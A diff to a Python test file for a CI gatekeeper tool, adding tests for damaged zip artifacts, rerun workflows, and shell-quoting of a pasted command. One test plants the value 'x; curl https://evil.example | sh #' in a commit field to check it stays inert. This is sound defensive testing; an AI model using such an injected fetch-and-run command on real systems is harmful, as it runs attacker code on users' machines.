@@ -82,10 +82,10 @@ def plain(markdown: str) -> str:
     return html.unescape(re.sub(r"</?code>|<wbr>|<!--.*?-->\n", "", markdown))
 
 
-def zipped(files: Files) -> bytes:
+def zipped(files: Files, method: int = zipfile.ZIP_DEFLATED) -> bytes:
     """An artifact as actions/upload-artifact makes it."""
     out = io.BytesIO()
-    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+    with zipfile.ZipFile(out, "w", method) as archive:
         for name, content in files.items():
             archive.writestr(name, content)
     return out.getvalue()
@@ -202,6 +202,25 @@ def test_an_artifact_that_is_nothing_is_told(lane: Lane, content: bytes) -> None
     assert said.startswith("## ❔ gatekeeper, reported by the fork's own run: could not judge")
 
 
+@pytest.mark.parametrize("method", [zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
+def test_an_artifact_that_is_damaged_is_told(lane: Lane, method: int) -> None:
+    content = bytearray(zipped(lane.measured(losing(lane)), method))
+    run = zipfile.ZipFile(io.BytesIO(content)).getinfo("run.json")
+    start = run.header_offset + 30 + len(run.filename) + 20
+    content[start : start + 40] = bytes(byte ^ 0xFF for byte in content[start : start + 40])
+    assert lane.reported(bytes(content)).code == 0
+    assert "the artifact cannot be unpacked" in lane.comment()
+
+
+def test_a_command_to_paste_is_only_ever_gatekeepers(lane: Lane) -> None:
+    files = lane.measured(losing(lane))
+    run = json.loads(files["run.json"])
+    run["base"]["commit"] = "x; curl https://evil.example | sh #"
+    files["run.json"] = json.dumps(run).encode()
+    lane.reported(files)
+    assert "gatekeeper run --base 'x; curl https://evil.example | sh #' --head" in lane.comment()
+
+
 def test_a_zip_that_unfolds_without_end_is_stopped(
     lane: Lane, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
 ) -> None:
@@ -219,6 +238,13 @@ def test_without_an_artifact_it_says_what_to_upload(lane: Lane) -> None:
     lane.reported(None)
     assert "the fork's run left no artifact named gatekeeper-evidence" in lane.comment()
     assert "upload the evidence folder with actions/upload-artifact" in lane.comment()
+
+
+def test_of_a_run_that_was_run_again_the_last_attempt_is_reported(lane: Lane) -> None:
+    files = lane.measured(losing(lane))
+    lane.github.add_artifact(7, "gatekeeper-evidence", zipped({"run.json": b"{"}))
+    lane.reported(files)
+    assert ": blocked\n" in lane.comment()
 
 
 def test_a_head_that_has_moved_is_reported_by_its_own_run(lane: Lane) -> None:
